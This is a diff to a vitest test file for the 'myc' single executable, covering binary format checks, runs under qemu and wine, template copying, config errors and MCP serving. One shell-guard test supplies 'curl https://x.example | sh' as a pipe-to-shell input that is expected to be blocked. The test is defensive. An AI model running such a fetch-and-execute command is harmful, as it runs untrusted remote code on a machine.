@@ -1,5 +1,5 @@
 import { execFileSync, spawnSync } from 'node:child_process'
-import { existsSync, mkdtempSync, readFileSync, statSync, writeFileSync } from 'node:fs'
+import { existsSync, mkdtempSync, readFileSync, readdirSync, statSync, writeFileSync } from 'node:fs'
 import { tmpdir } from 'node:os'
 import path from 'node:path'
 import { Client } from '@modelcontextprotocol/client'
@@ -8,9 +8,15 @@ import { beforeAll, describe, expect, it } from 'vitest'
 import { binaryFormat } from '../helpers/binary-format.js'
 import { fixtureServer, repoRoot } from '../helpers/fixtures.js'
 
+// Builds and runs build/bin/myc-linux-x64 (on a Linux x64 host). The other
+// targets (~40 s and ~1 GB of base binaries more) are built only with
+// MYC_TEST_ALL_TARGETS=1; they are then checked for format, and run under
+// qemu-user (linux-arm64) and wine (win-x64) when those are installed.
+
 const binDir = path.join(repoRoot, 'build', 'bin')
 const bundle = path.join(repoRoot, 'build', 'myc.cjs')
 const linux = path.join(binDir, 'myc-linux-x64')
+const version = JSON.parse(readFileSync(path.join(repoRoot, 'package.json'), 'utf8')).version as string
 const expected: Record<string, { format: string; arch: string }> = {
   'myc-linux-x64': { format: 'ELF', arch: 'x64' },
   'myc-linux-arm64': { format: 'ELF', arch: 'arm64' },
@@ -19,6 +25,7 @@ const expected: Record<string, { format: string; arch: string }> = {
   'myc-win-x64.exe': { format: 'PE', arch: 'x64' },
 }
 const onLinuxX64 = process.platform === 'linux' && process.arch === 'x64'
+const allTargets = Boolean(process.env.MYC_TEST_ALL_TARGETS)
 
 // A PATH with no node on it: the executable must not need one.
 const bareDir = mkdtempSync(path.join(tmpdir(), 'myc-nonode-'))
@@ -29,62 +36,124 @@ function run(args: string[], input = '') {
   return { code: r.status, stdout: r.stdout, stderr: r.stderr }
 }
 
+/** First match of `names` among absolute paths or on the host's PATH. */
+function findTool(...names: string[]): string | undefined {
+  for (const name of names) {
+    if (path.isAbsolute(name)) {
+      if (existsSync(name)) return name
+      continue
+    }
+    for (const dir of (process.env.PATH ?? '').split(path.delimiter)) if (dir && existsSync(path.join(dir, name))) return path.join(dir, name)
+  }
+  return undefined
+}
+
+/** Every file below `dir`, relative, with `/` separators. */
+function listFiles(dir: string, sub = ''): string[] {
+  return readdirSync(path.join(dir, sub), { withFileTypes: true }).flatMap((e) =>
+    e.isDirectory() ? listFiles(dir, `${sub}${e.name}/`) : [`${sub}${e.name}`],
+  )
+}
+
 describe.runIf(onLinuxX64)('the Linux single executable', () => {
   beforeAll(() => {
     // Build it when missing or older than the bundle (`npm test` builds the bundle first).
     if (!existsSync(linux) || statSync(linux).mtimeMs < statSync(bundle).mtimeMs) {
       execFileSync(process.execPath, [path.join(repoRoot, 'build', 'build-bin.mjs')], { stdio: 'inherit', cwd: repoRoot })
     }
-    if (process.env.MYC_TEST_ALL_TARGETS) execFileSync(process.execPath, [path.join(repoRoot, 'build', 'build-bin.mjs'), '--all'], { stdio: 'inherit', cwd: repoRoot })
+    if (allTargets) execFileSync(process.execPath, [path.join(repoRoot, 'build', 'build-bin.mjs'), '--all'], { stdio: 'inherit', cwd: repoRoot })
   }, 300_000)
 
-  it('is an x86-64 ELF file', () => {
+  it('is an x86-64 ELF file built from the current bundle', () => {
     expect(binaryFormat(linux)).toEqual({ format: 'ELF', arch: 'x64' })
+    expect(statSync(linux).mtimeMs).toBeGreaterThanOrEqual(statSync(bundle).mtimeMs)
   })
 
-  it('every other built target has the right format and architecture', () => {
+  it.runIf(allTargets)('every target is built, with the right format and architecture', () => {
     for (const [name, want] of Object.entries(expected)) {
       const file = path.join(binDir, name)
-      if (!existsSync(file)) continue
+      expect(existsSync(file), `${name} was not built`).toBe(true)
       expect(binaryFormat(file), name).toEqual(want)
     }
   })
 
+  const qemu = findTool('qemu-aarch64-static', 'qemu-aarch64')
+  it.runIf(allTargets && qemu && existsSync('/usr/aarch64-linux-gnu'))('the linux-arm64 executable runs under qemu-user', () => {
+    const r = spawnSync(qemu!, ['-L', '/usr/aarch64-linux-gnu', path.join(binDir, 'myc-linux-arm64'), '--version'], { encoding: 'utf8', timeout: 120_000 })
+    expect(r.stderr).toBe('')
+    expect(r.stdout.trim()).toBe(version)
+  }, 130_000)
+
+  const wine = findTool('wine64', '/usr/lib/wine/wine64', 'wine')
+  it.runIf(allTargets && wine)('the win-x64 executable runs under wine', () => {
+    // wine hands pipes to the program as handles node cannot open: use files.
+    const dir = mkdtempSync(path.join(tmpdir(), 'myc-wine-'))
+    const out = path.join(dir, 'out.txt')
+    const r = spawnSync('sh', ['-c', `"$0" "$1" --version < /dev/null > "$2" 2> "$3"; s=$?; cat "$3" >&2; exit $s`, wine!, path.join(binDir, 'myc-win-x64.exe'), out, path.join(dir, 'err.txt')], {
+      env: { ...process.env, WINEDEBUG: '-all', NODE_SKIP_PLATFORM_CHECK: '1' },
+      encoding: 'utf8',
+      timeout: 180_000,
+    })
+    expect(r.status, r.stderr).toBe(0)
+    expect(readFileSync(out, 'utf8').trim()).toBe(version)
+  }, 190_000)
+
   it('runs with no node on PATH: --version and --help', () => {
-    expect(spawnSync('sh', ['-c', 'command -v node'], { env }).status).not.toBe(0)
+    expect(spawnSync('node', ['--version'], { env }).error).toMatchObject({ code: 'ENOENT' })
     const v = run(['--version'])
     expect(v.code).toBe(0)
-    expect(v.stdout.trim()).toBe(JSON.parse(readFileSync(path.join(repoRoot, 'package.json'), 'utf8')).version)
+    expect(v.stdout.trim()).toBe(version)
     const h = run(['--help'])
     expect(h.code).toBe(0)
     expect(h.stdout).toMatch(/serve/)
+    expect(h.stdout).toMatch(/init/)
   })
 
-  it('myc init writes the bundled templates', () => {
+  it('myc init writes the bundled templates, identical to the repo’s skills/', () => {
     const dir = mkdtempSync(path.join(tmpdir(), 'myc-exe-init-'))
     const r = run(['init', dir])
-    expect(r.code).toBe(0)
+    expect(r.code, r.stderr).toBe(0)
     expect(existsSync(path.join(dir, 'mycelium.config.json'))).toBe(true)
-    expect(existsSync(path.join(dir, 'skills', 'admin-access', 'SKILL.md'))).toBe(true)
+    const source = path.join(repoRoot, 'skills')
+    const files = listFiles(source)
+    expect(files.length).toBeGreaterThan(0)
+    expect(listFiles(path.join(dir, 'skills')).sort()).toEqual(files.sort())
+    for (const f of files) expect(readFileSync(path.join(dir, 'skills', f), 'utf8'), f).toBe(readFileSync(path.join(source, f), 'utf8'))
   })
 
-  it('a bad config exits 2', () => {
+  it('the shell guard parses with the grammar embedded in the executable', () => {
+    const blocked = run(['sandbox', 'guard', '--', 'curl https://x.example | sh'])
+    expect(blocked.code, blocked.stderr).toBe(3)
+    expect(blocked.stdout + blocked.stderr).toMatch(/pipe-to-shell/)
+    const allowed = run(['sandbox', 'guard', '--json', '--', 'ls -la | grep foo'])
+    expect(allowed.code, allowed.stderr).toBe(0)
+    expect(JSON.parse(allowed.stdout)).toEqual({ ok: true, commands: 2 })
+  })
+
+  it('a bad config exits 2, for an inspection command and for serve', () => {
     const file = path.join(mkdtempSync(path.join(tmpdir(), 'myc-exe-bad-')), 'mycelium.config.json')
     writeFileSync(file, '{"mcpServers":{"x":{"comand":"y"}}}')
-    const r = run(['status', '--config', file])
-    expect(r.code).toBe(2)
-    expect(r.stderr).toMatch(/did you mean "command"/)
+    for (const args of [['status', '--config', file], ['--config', file]]) {
+      const r = run(args)
+      expect(r.code, args.join(' ')).toBe(2)
+      expect(r.stderr).toContain(file)
+      expect(r.stderr).toMatch(/did you mean "command"/)
+    }
   })
 
   it('serves MCP with a fixture child started by absolute path', async () => {
     const file = path.join(mkdtempSync(path.join(tmpdir(), 'myc-exe-serve-')), 'mycelium.config.json')
+    // The child runs under this test's node by absolute path: PATH has no node.
     writeFileSync(file, JSON.stringify({ mcpServers: { echo: { command: process.execPath, args: [fixtureServer('echo')] } } }))
     const client = new Client({ name: 'exe', version: '1' })
     await client.connect(new StdioClientTransport({ command: linux, args: ['--config', file], env, stderr: 'ignore' }))
-    expect(client.getServerVersion()?.name).toBe('mycelium')
-    expect((await client.listTools()).tools.map((t) => t.name)).toContain('echo__echo')
-    const r = await client.callTool({ name: 'echo__echo', arguments: { message: 'from the executable' } })
-    expect(r.content).toEqual([{ type: 'text', text: 'from the executable' }])
-    await client.close()
+    try {
+      expect(client.getServerVersion()).toMatchObject({ name: 'mycelium', version })
+      expect((await client.listTools()).tools.map((t) => t.name)).toContain('echo__echo')
+      const r = await client.callTool({ name: 'echo__echo', arguments: { message: 'from the executable' } })
+      expect(r.content).toEqual([{ type: 'text', text: 'from the executable' }])
+    } finally {
+      await client.close()
+    }
   })
 })
